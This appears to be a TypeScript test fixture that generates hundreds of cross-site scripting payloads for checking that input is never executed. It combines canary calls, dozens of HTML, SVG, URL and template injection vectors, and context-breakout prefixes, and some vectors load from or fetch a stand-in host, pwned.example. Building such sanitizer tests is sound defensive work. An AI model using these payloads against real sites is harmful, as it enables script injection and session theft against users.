/**
 * Words that would run, were they ever taken for more than words. Each calls `__pwned(n)` in one of the ways a page has of
 * running what it was given, behind one of the ways out of where a text usually stands.
 */

/** What is run: told apart by the number. */
const calls: readonly ((n: number) => string)[] = [
  (n) => `__pwned(${n})`,
  (n) => `window['__pw'+'ned'](${n})`,
  (n) => `top.__pwned(${n})`,
  (n) => `[${n}].map(__pwned)`,
  (n) => `setTimeout('__pwned(${n})')`,
  (n) => `import('data:text/javascript,__pwned(${n})')`,
  (n) => `fetch('https://pwned.example/${n}')`,
]

/** How it is run. `c` stands for the call; what holds quotes of its own is quoted the other way. */
const ways: readonly ((c: string, n: number) => string)[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<ScRiPt>${c}</sCrIpT>`,
  (c) => `<script/x>${c}</script\n>`,
  (_c, n) => `<script src="https://pwned.example/${n}.js"></script>`,
  (_c, n) => `<script type=module src=data:text/javascript,__pwned(${n})></script>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src=x:x onerror=${c.replaceAll(' ', '')}>`,
  (c) => `<IMG """><img src=1 OnErRoR="${c}">`,
  (_c, n) => `<img src=https://pwned.example/${n}.png>`,
  (_c, n) => `<img src=x onerror="&#95;&#95;pwned(${n})">`,
  (c) => `<svg onload="${c}">`,
  (c) => `<svg/onload="${c}"/>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><animate onbegin="${c}" attributeName=x dur=1s></svg>`,
  (_c, n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=__pwned(${n})>#x"/></svg>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`,
  (c) => `<math><mtext><mglyph><style><img src=x onerror="${c}">`,
  (c) => `<body onload="${c}">`,
  (c) => `<details open ontoggle="${c}"><summary>x</summary></details>`,
  (c) => `<video><source onerror="${c}"></video>`,
  (c) => `<audio src=x onerror="${c}"></audio>`,
  (c) => `<input autofocus onfocus="${c}">`,
  (c) => `<textarea autofocus onfocus="${c}"></textarea>`,
  (c) => `<select autofocus onfocus="${c}"></select>`,
  (c) => `<marquee onstart="${c}">x</marquee>`,
  (c) => `<div onpointerenter="${c}" style="position:fixed;inset:0">x</div>`,
  (c) => `<div style="animation:x 1ms" onanimationstart="${c}"></div><style>@keyframes x{}</style>`,
  (_c, n) => `<style>@import 'https://pwned.example/${n}.css';</style>`,
  (_c, n) => `<link rel=stylesheet href=https://pwned.example/${n}.css>`,
  (_c, n) => `<div style="background:url(https://pwned.example/${n})">x</div>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (_c, n) => `<iframe src="data:text/html,<script>parent.__pwned(${n})</script>"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (_c, n) => `<object data="data:text/html,<script>__pwned(${n})</script>"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<a href=" java\tscript:${c}">x</a>`,
  (c) => `<form action="javascript:${c}"><button autofocus>x</button></form>`,
  (c) => `<button formaction="javascript:${c}" form=x>x</button>`,
  (_c, n) => `<meta http-equiv=refresh content="0;url=https://pwned.example/${n}">`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (_c, n) => `<base href="https://pwned.example/${n}/">`,
  (c) => `<template shadowrootmode=open><img src=x onerror="${c}"></template>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror='${c.replaceAll("'", '"')}'>"></noscript>`,
  (c) => `<!--><img src=x onerror="${c}">-->`,
  (c) => `<![CDATA[<img src=x onerror="${c}">]]>`,
  (c) => `<xmp><img src="</xmp><img src=x onerror='${c.replaceAll("'", '"')}'>">`,
  (c) => `javascript:${c}`,
  (c) => `jAvAsCrIpT:${c}//`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `vbscript:${c}`,
  (c) => `{{constructor.constructor("${c.replaceAll('"', "'")}")()}}`,
  (c) => `\${${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `[x](javascript:${c})`,
  (c) => `![x](x"onerror="${c})`,
  (c) => `<b>{x, select, other {<img src=x onerror="${c}">}}</b>`,
  (c) =>
    `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${c.replaceAll('"', "'")}"}}}`,
  (c) => `__proto__[innerHTML]=<img/src/onerror=${c.replaceAll(' ', '')}>`,
]

/** How it gets out of where it stands. */
const outs = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style></script>',
  '-->',
  '\u0000',
  '\u2028',
  '\uff1c',
  '`',
]

/** `count` different ones; the `n`th is the same in every run. At most 780. */
export const payloads = (count: number): readonly string[] =>
  Array.from({ length: count }, (_none, n) => {
    const way = ways[n % ways.length] ?? String
    const round = Math.floor(n / ways.length)
    const out = outs[(n + round * 5) % outs.length] ?? ''
    // a zero byte cannot be stored, and is refused before it is written
    return `${out === '\u0000' ? '%00' : out}${way((calls[(n + round) % calls.length] ?? String)(n), n)}`
  })

/** A drawing that would run it in every way a drawing can. */
export const drawing = (n: number, payload: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="__pwned(${n})"><script>__pwned(${n})</script>` +
  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="__pwned(${n})">${payload}</body></foreignObject>` +
  `<image href="https://pwned.example/${n}"/><set attributeName="x" onbegin="__pwned(${n})"/></svg>`
